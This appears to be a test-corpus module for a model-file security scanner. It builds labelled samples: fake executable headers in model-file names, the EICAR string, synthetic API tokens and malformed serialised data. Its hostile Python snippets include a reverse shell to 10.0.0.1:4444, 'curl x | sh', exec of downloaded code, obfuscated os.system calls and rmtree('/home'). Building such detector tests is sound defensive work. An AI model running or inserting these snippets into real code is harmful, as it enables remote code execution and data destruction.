"""Executables, Python, notebooks, secrets, R and other tails: hostile ones, ones to be shown, ordinary ones."""

import base64
import json
import random
import string
import struct
import zlib
from collections.abc import Iterator

from tests.attack.corpus.case import Case, Label, fixed
from tests.attack.corpus.pickles import global_call

__all__ = ["cases"]

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(200)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + rb"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

HOSTILE_PYTHON = {
    "system": "import os\nos.system('curl x | sh')\n",
    "system-alias": "import os as o\no.system('id')\n",
    "system-from": "from os import system as s\ns('id')\n",
    "system-getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "system-import": "__import__('os').system('id')\n",
    "system-importlib": "import importlib\nimportlib.import_module('os').popen('id')\n",
    "system-globals": "globals()['__builtins__']['exec']('import os')\n",
    "subprocess": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
    "subprocess-in-function": "import subprocess\ndef f():\n    subprocess.run('id', shell=True)\nf()\n",
    "exec-base64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "exec-zlib": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')).decode())\n",
    "exec-marshal": "import marshal\nexec(marshal.loads(b'x'))\n",
    "exec-hex": "exec(bytes.fromhex('7072696e74').decode())\n",
    "exec-download": "import urllib.request\nexec(urllib.request.urlopen('http://x/').read())\n",
    "exec-requests": "import requests\nexec(requests.get('http://x').text)\n",
    "eval-compile": "import base64\neval(compile(base64.b64decode('MQ=='), 'x', 'eval'))\n",
    "exec-in-function": "import base64\ndef forward(x):\n    exec(base64.b64decode(x))\n",
    "reverse-shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    "class-body": "import os\nclass A:\n    os.system('id')\n",
    "decorator": "import os\n@os.system('id')\ndef f():\n    pass\n",
    "default": "import os\ndef f(x=os.system('id')):\n    pass\n",
    "lambda-called": "import os\n(lambda: os.system('id'))()\n",
    "delete": "import shutil\nshutil.rmtree('/home')\n",
    "spawn": "import os\nos.execvp('sh', ['sh'])\n",
    "alias-by-assignment": "import os\nrun = os.system\nrun('id')\n",
    "in-a-try": "try:\n    import os\n    os.system('id')\nexcept Exception:\n    pass\n",
    "joined-name": "getattr(__import__(''.join(['o', 's'])), 'system')('id')\n",
    "reversed-name": "getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')\n",
}
ORDINARY_PYTHON = {
    "model": "import torch\nfrom torch import nn\n\nclass Model(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.a = nn.Linear(2, 2)\n",
    "script": "import argparse, subprocess\n\ndef main():\n    subprocess.run(['git', 'status'], check=True)\n\nif __name__ == '__main__':\n    main()\n",
    "words": "TEXT = 'os.system and eval are words'\nprint(TEXT)\n",
    "setup": "from setuptools import setup\nsetup(name='x')\n",
    "regex": "import re\nPATTERN = re.compile('a')\n",
}


def _secret(alphabet: str, length: int, seed: int) -> str:
    source = random.Random(seed)
    return "".join(source.choice(alphabet) for _ in range(length))


def github_token(seed: int = 1) -> str:
    """A token of nobody with the right checksum."""
    body = _secret(string.ascii_letters + string.digits, 30, seed)
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    value, made = zlib.crc32(body.encode()), ""
    while value:
        value, digit = divmod(value, 62)
        made = digits[digit] + made
    return f"ghp_{body}{made.rjust(6, '0')}"


def _secrets() -> Iterator[tuple[str, str]]:
    mixed = string.ascii_letters + string.digits
    yield "aws", "AKIA" + _secret("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16, 3)
    yield "github", github_token()
    yield "hugging-face", "hf_" + _secret(string.ascii_letters, 34, 5)
    yield "openai", "sk-proj-" + _secret(mixed, 60, 6)
    yield "anthropic", "sk-ant-" + "api03-" + _secret(mixed, 93, 7)
    yield "slack", "xoxb-" + "123987456012-" + _secret(mixed, 24, 8)
    yield "google", "AIza" + _secret(mixed, 35, 9)
    yield "stripe", "sk_live_" + _secret(mixed, 24, 10)
    yield "npm", "npm_" + _secret(mixed, 36, 11)
    yield "gitlab", "glpat-" + _secret(mixed, 20, 12)
    yield "sendgrid", f"SG.{_secret(mixed, 22, 13)}.{_secret(mixed, 43, 14)}"
    key = base64.b64encode(random.Random(15).randbytes(400)).decode()
    lines = "\n".join(key[at : at + 64] for at in range(0, len(key), 64))
    yield "private-key", f"-----BEGIN RSA PRIVATE KEY-----\n{lines}\n-----END RSA PRIVATE KEY-----"
    yield "wandb", "WANDB_API_KEY=" + _secret("0123456789abcdef", 40, 17)
    yield "netrc", "machine api.wandb.ai login user password " + _secret("0123456789abcdef", 40, 18)
    yield "kaggle-variable", "KAGGLE_KEY=" + _secret("0123456789abcdef", 32, 19)
    yield "vault", "hvs." + _secret(mixed, 90, 20)
    yield "xai", "xai-" + _secret(mixed, 80, 21)
    yield "nvidia", "nvapi-" + _secret(mixed, 64, 22)
    yield "openrouter", "sk-or-v1-" + _secret("0123456789abcdef", 64, 23)
    yield "discord", f"TOKEN=M{_secret(mixed, 23, 24)}.{_secret(mixed, 6, 25)}.{_secret(mixed, 38, 26)}"
    yield "database-dialect", "postgresql+psycopg2://svc:" + _secret(mixed, 20, 27) + "@db.example.org:5432/x"
    yield "git-address", "https://oauth2:" + _secret(mixed, 20, 28) + "@git.internal.net/x.git"
    yield "database", "postgres://service:" + _secret(mixed, 20, 16) + "@db.internal.net:5432/x"


PLACEHOLDERS = (
    "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "sk-YOUR_API_KEY", "AKIAIOSFODNN7EXAMPLE", "ghp_" + "0" * 36, "token = <your token>",
    "sk-...", "hf_" + "a" * 34, "AIzaSyXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX", "postgres://user:password@localhost/db", "ghp_" + "A" * 36,
    "postgres://user:password@db.example.com/x", "machine api.wandb.ai login user password <your key>", "WANDB_API_KEY=your_key",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
)  # fmt: skip


def notebook(*cells: str) -> bytes:
    """A notebook with these cells of code."""
    listed = [
        {"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": [], "metadata": {}}
        for cell in cells
    ]
    return json.dumps({"cells": listed, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def r_object(*parts: bytes) -> bytes:
    """An R serialisation of version 2 with these items."""
    return b"X\n" + struct.pack(">iii", 2, 0x040200, 0x020300) + b"".join(parts)


def _files() -> Iterator[tuple[str, str, str, Label, bytes]]:
    for name, data in (("elf", ELF), ("pe", PE), ("macho", MACHO)):
        for file_name in (
            "model.safetensors",
            "weights.bin",
            "config.json",
            "picture.png",
            "notes.txt",
            "model.pt",
            "a.gguf",
        ):
            yield "disguised", f"{name}-{file_name}", file_name, "malicious", data
        yield "native", name, {"elf": "lib.so", "pe": "lib.dll", "macho": "lib.dylib"}[name], "policy", data
    yield "programs", "eicar", "x.txt", "malicious", EICAR
    yield "programs", "ape", "model.llamafile", "malicious", b"MZqFpD='\n" + bytes(500)
    yield (
        "programs",
        "shortcut",
        "model.lnk",
        "policy",
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60),
    )
    yield "programs", "wasm", "x.wasm", "policy", b"\0asm\1\0\0\0" + bytes(20)
    yield "programs", "java", "X.class", "policy", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10\x0a" + bytes(40)
    yield (
        "programs",
        "java-disguised",
        "vocab.txt",
        "malicious",
        b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10\x0a" + bytes(40),
    )
    yield (
        "programs",
        "macros",
        "x.doc",
        "policy",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(200),
    )
    for name, source in HOSTILE_PYTHON.items():
        yield "python-hostile", name, "modeling_x.py", "malicious", source.encode()
    for name, source in ORDINARY_PYTHON.items():
        yield "python-ordinary", name, "code.py", "benign", source.encode()
    yield (
        "python-policy",
        "dataset",
        "dataset.py",
        "policy",
        b"import datasets\n\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n",
    )
    yield "notebooks", "shell", "a.ipynb", "policy", notebook("!pip install x")
    yield "notebooks", "bash", "a.ipynb", "policy", notebook("%%bash\nls")
    yield (
        "notebooks",
        "hidden",
        "a.ipynb",
        "malicious",
        notebook("import base64\nexec(base64.b64decode('eA=='))"),
    )
    yield (
        "notebooks",
        "ordinary",
        "a.ipynb",
        "benign",
        notebook("%matplotlib inline\nimport os\nprint(os.getcwd())"),
    )
    for name, secret in _secrets():
        yield "secrets", name, "README.md", "policy", f"# Title\n\ntoken: {secret}\n".encode()
        yield "secrets-in-json", name, "config.json", "policy", json.dumps({"a": {"token": secret}}).encode()
    kaggle = {"username": "me", "key": _secret("0123456789abcdef", 32, 30)}
    yield "secrets-files", "kaggle", "kaggle.json", "policy", json.dumps(kaggle).encode()
    auth = base64.b64encode(b"me:" + _secret(string.ascii_letters, 20, 31).encode()).decode()
    yield (
        "secrets-files",
        "docker",
        "config.json",
        "policy",
        json.dumps({"auths": {"r": {"auth": auth}}}).encode(),
    )
    told = b"Comment\0" + github_token(32).encode()
    chunk = struct.pack(">I", len(told)) + b"tEXt" + told + bytes(4)
    yield (
        "secrets-files",
        "png",
        "x.png",
        "policy",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + chunk + b"\0\0\0\0IEND\xaeB`\x82",
    )
    yield (
        "secrets-files",
        "key-of-a-table",
        "x.json",
        "benign",
        json.dumps({"key": "d41d8cd98f00b204e9800998ecf8427e"}).encode(),
    )
    for number, text in enumerate(PLACEHOLDERS):
        yield "secrets-quiet", str(number), "README.md", "benign", f"# Use\n\nexport TOKEN={text}\n".encode()
    symbol = struct.pack(">ii", 1, 9) + struct.pack(">i", 1) + b"x"
    yield (
        "r",
        "promise",
        "a.rds",
        "malicious",
        r_object(struct.pack(">i", 5), struct.pack(">i", 254), struct.pack(">i", 254)),
    )
    yield (
        "r",
        "promise-inside",
        "a.rds",
        "malicious",
        r_object(struct.pack(">ii", 19, 1), struct.pack(">i", 5), struct.pack(">i", 254) * 2),
    )
    yield "r", "bytecode", "a.rds", "malicious", r_object(struct.pack(">ii", 21, 1), bytes(20))
    yield (
        "r",
        "closure",
        "a.rds",
        "policy",
        r_object(struct.pack(">i", 3), struct.pack(">i", 253), struct.pack(">i", 254) * 2),
    )
    yield "r", "vector", "a.rds", "benign", r_object(struct.pack(">ii", 14, 2), bytes(16))
    yield "r", "call", "a.rds", "benign", r_object(struct.pack(">i", 6), symbol, struct.pack(">i", 254))
    yield "r", "cut-off", "a.rds", "malicious", r_object(struct.pack(">ii", 14, 2_000_000))
    yield "msgpack", "extension", "a.msgpack", "policy", b"\x81\xa1a\xd4\x42\x00"
    yield "msgpack", "flax", "a.msgpack", "benign", b"\x81\xa1a\xc7\x03\x01abc"
    yield "msgpack", "length", "a.msgpack", "malicious", b"\xdf\xff\xff\xff\xff"
    yield "msgpack", "deep", "a.msgpack", "malicious", b"\x91" * 5000 + b"\xc0"
    yield "ubjson", "sound", "a.ubj", "benign", b"{U\x01aSU\x01bU\x01c[$U#U\x03\x01\x02\x03}"
    yield "ubjson", "length", "a.ubj", "malicious", b"{U\x01aSl\x7f\xff\xff\xffx}"
    yield "ubjson", "negative", "a.ubj", "malicious", b"[$d#l\xff\xff\xff\xff"
    yield "ubjson", "deep", "a.ubj", "malicious", b"[" * 5000
    yield (
        "pdf",
        "script",
        "a.pdf",
        "policy",
        b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n",
    )
    yield "pdf", "ordinary", "a.pdf", "benign", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
    yield "texts", "words", "vocab.txt", "benign", b"eval\nexec\nos.system\n__import__\nsubprocess\n"
    yield "texts", "utf-16", "a.txt", "benign", "text \u00e4".encode("utf-16")
    yield "texts", "pickle-words", "a.txt", "benign", b"cats\nare nice\nand (so) are dogs.\n"
    yield (
        "pictures",
        "png",
        "a.png",
        "benign",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82",
    )
    yield "texts", "pickle", "a.txt", "malicious", global_call("os", "system")


def cases() -> Iterator[Case]:
    """All of them."""
    for family, name, file_name, label, data in _files():
        yield Case(family, name, file_name, label, fixed(data))
